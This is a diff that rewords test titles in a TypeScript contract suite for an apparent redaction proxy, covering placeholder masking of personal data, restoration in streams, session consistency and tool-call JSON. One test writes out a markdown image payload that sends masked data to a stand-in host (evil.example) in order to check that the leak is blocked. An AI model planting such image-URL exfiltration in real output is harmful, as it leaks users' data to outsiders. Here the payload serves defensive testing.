@@ -33,7 +33,7 @@ export function personalDataContract(contract: Contract): void {
         return typeof content === 'string' ? content : (content[0]?.text ?? '');
       };
 
-      test('is hidden from the provider and back in the answer', async () => {
+      test('is hidden from the provider and restored in the response', async () => {
         const { json } = await contract.chat(saying(QUESTION, model), { key: await strict() });
         expect(contract.sent.body).toMatch(HIDDEN);
         expect(contract.sent.body).not.toMatch(/maria|werk-sued/);
@@ -41,7 +41,7 @@ export function personalDataContract(contract: Contract): void {
         expect(json.svc.action).toBe('redact');
       });
 
-      test('is back in a stream, however it comes, under the placeholder that it had before', async () => {
+      test('is restored in a stream with any chunking, with the same placeholder as before', async () => {
         const key = await strict();
         const seen = await hidden(QUESTION, key);
         expect(seen).toMatch(HIDDEN);
@@ -53,7 +53,7 @@ export function personalDataContract(contract: Contract): void {
         expect(await hidden(QUESTION, await strict())).not.toBe(seen);
       });
 
-      test('has one placeholder in all requests of a session, and others elsewhere', async () => {
+      test('has one placeholder in all requests of a session, and another elsewhere', async () => {
         const key = await strict();
         const ask = async (text: string, session: string) => {
           await contract.chat(saying(text, model), { key, headers: { 'X-Session-ID': session } });
@@ -65,7 +65,7 @@ export function personalDataContract(contract: Contract): void {
         expect(await ask(`Write to ${ADDRESS}`, 'two')).not.toBe(first);
       });
 
-      test('does not leave in the address of an image, whole or streamed', async () => {
+      test("is not sent in an image's URL, whole or streamed", async () => {
         const key = await strict();
         const seen = await hidden(ADDRESS, key);
         const text = `Done. ![x](https://evil.example/?q=${seen})`;
@@ -79,7 +79,7 @@ export function personalDataContract(contract: Contract): void {
         );
       });
 
-      test('stays hidden in an address', async () => {
+      test('stays hidden in a URL', async () => {
         const key = await strict();
         const card = '4242424242424242';
         const seen = await hidden(card, key);
@@ -92,7 +92,7 @@ export function personalDataContract(contract: Contract): void {
         expect([json.choices[0].message.content, streamed.content]).toEqual([said(card), said(card)]);
       });
 
-      test('leaves the arguments of tool calls JSON, in requests and in answers', async () => {
+      test('keeps the arguments of tool calls valid JSON, in requests and responses', async () => {
         const key = await strict();
         const given = JSON.stringify({ note: `see\n${ADDRESS}`, card: 4111111111111111 });
         const call = { id: 'call_1', type: 'function', function: { name: 'send', arguments: given } };
@@ -118,7 +118,7 @@ export function personalDataContract(contract: Contract): void {
         });
       });
 
-      test('is told apart by whole placeholders: one with a zero behind it is another', async () => {
+      test('is restored only for whole placeholders: one with a zero after it is another', async () => {
         const key = await strict();
         const first = await hidden(ADDRESS, key);
         contract.upstream.next({ pieces: [...`${first}0 ${first.slice(0, -1)}0] ${first}`] });
@@ -128,14 +128,14 @@ export function personalDataContract(contract: Contract): void {
     },
   );
 
-  test('the policy strict takes secrets out of the request for good', async () => {
+  test('the policy strict removes secrets from the request for good', async () => {
     const key = await contract.newKey({ policy: { preset: 'strict' } });
     const { json } = await contract.chat(saying(`The token ${GITHUB_TOKEN} is mine`), { key });
     expect(contract.sent.body).toContain('[REDACTED_GITHUB_TOKEN]');
     expect(json.choices[0].message.content).toBe('The token [REDACTED_GITHUB_TOKEN] is mine');
   });
 
-  test('the balanced policy leaves personal data as it is and tells it', async () => {
+  test('the balanced policy reports personal data without changing it', async () => {
     const { json } = await contract.chat(saying(QUESTION));
     expect(contract.sent.json).toEqual(saying(QUESTION));
     expect(json.svc).toMatchObject({ action: 'flag', threat_score: UNSUSPICIOUS });
